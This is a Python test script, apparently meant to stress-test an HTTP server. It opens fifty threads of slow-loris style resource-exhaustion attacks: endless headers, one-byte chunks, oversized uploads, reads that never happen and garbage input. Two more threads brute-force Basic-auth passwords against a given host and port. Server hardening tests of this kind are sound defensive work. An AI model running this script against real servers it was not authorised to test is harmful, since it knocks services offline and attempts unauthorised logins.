"""Fifty connections that mean no good and two that guess passwords; until it is ended.

python tests/hostile.py HOST PORT
"""

import base64
import itertools
import socket
import sys
import threading
import time

HEAD = b"PUT /x HTTP/1.1\r\nHost: localhost\r\n"


def drip(connection):
    """A header that never ends."""
    connection.sendall(HEAD + b"X: ")
    while True:
        time.sleep(0.05)
        connection.sendall(b"y")


def small_chunks(connection):
    """A body in pieces of one octet."""
    connection.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        connection.sendall(b"1\r\nx\r\n" * 500)
        time.sleep(0.02)


def long_chunk_line(connection):
    connection.sendall(HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        connection.sendall(b"1" * 50_000)


def never_read(connection):
    """Asks for much, and fetches nothing."""
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    while True:
        connection.sendall(b"GET /large HTTP/1.1\r\nHost: localhost\r\n\r\n")
        time.sleep(0.1)


def upload(connection):
    """As much as fits in, for nobody."""
    connection.sendall(HEAD + b"Content-Length: 30000000\r\n\r\n")
    while True:
        connection.sendall(b"x" * 50_000)
        time.sleep(0.01)


def nonsense(connection):
    while True:
        connection.sendall(b"\x00\xff nonsense\r\n\r\n")
        connection.recv(4096)
        time.sleep(0.01)


def half_open(connection):
    time.sleep(60)


def guess(connection):
    """Passwords, as fast as they are answered."""
    for number in itertools.count():
        credentials = base64.b64encode(f"alice:guess{number}".encode())
        connection.sendall(
            b"GET / HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic "
            + credentials
            + b"\r\n\r\n"
        )
        if not connection.recv(65536):
            raise ConnectionError


def attack(how, address):
    while True:
        try:
            with socket.create_connection(address, 30) as connection:
                how(connection)
        except OSError:
            time.sleep(0.02)


def main():
    address = (sys.argv[1], int(sys.argv[2]))
    ways = [drip, small_chunks, long_chunk_line, never_read, upload, nonsense, half_open]
    fifty = list(itertools.islice(itertools.cycle(ways), 50))
    for how in [*fifty, guess, guess]:
        threading.Thread(target=attack, args=(how, address), daemon=True).start()
    time.sleep(600)


if __name__ == "__main__":
    main()
